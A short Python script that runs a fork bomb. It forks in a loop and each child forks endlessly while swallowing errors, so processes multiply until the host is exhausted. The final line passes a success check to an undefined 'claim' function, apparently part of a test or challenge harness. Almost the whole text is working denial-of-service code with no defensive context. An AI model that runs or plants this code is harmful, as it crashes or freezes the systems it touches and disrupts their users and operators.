import os

children = 0
try:
    while True:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
        children += 1
        if children > 5000:
            break
except OSError:
    pass

attack = claim(lambda: children > 5000)
